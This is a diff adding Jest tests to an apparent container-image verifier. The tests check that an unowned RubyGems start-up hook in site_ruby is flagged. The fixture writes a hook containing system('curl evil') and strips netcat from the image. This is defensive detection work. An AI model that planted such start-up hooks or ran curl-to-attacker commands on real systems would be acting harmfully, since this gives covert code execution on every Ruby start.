@@ -709,3 +709,31 @@ describe('verify IMAGE: a java argument file in the entry point', () => {
     expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER java @');
   });
 });
+
+describe('verify IMAGE: a RubyGems start-up hook in site_ruby', () => {
+  // RubyGems requires rubygems/defaults/operating_system at every start of ruby; site_ruby is
+  // first on the load path, before Debian's own hook in vendor_ruby.
+  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
+  const site = [
+    'usr/local',
+    'usr/local/lib',
+    'usr/local/lib/site_ruby',
+    'usr/local/lib/site_ruby/3.1.0',
+  ]
+    .concat([
+      'usr/local/lib/site_ruby/3.1.0/rubygems',
+      'usr/local/lib/site_ruby/3.1.0/rubygems/defaults',
+    ])
+    .map(dir);
+
+  it('the control: the directory alone passes', async () => {
+    expect((await verify([...clean, ...site])).code).toBe(0);
+  });
+
+  it('an unowned operating_system.rb there fails inventory:complete', async () => {
+    const hook = 'usr/local/lib/site_ruby/3.1.0/rubygems/defaults/operating_system.rb';
+    const r = await verify([...clean, ...site, file(hook, 'system("curl evil")\n')]);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(`UNOWNED_EXECUTABLE ${hook}`);
+  });
+});
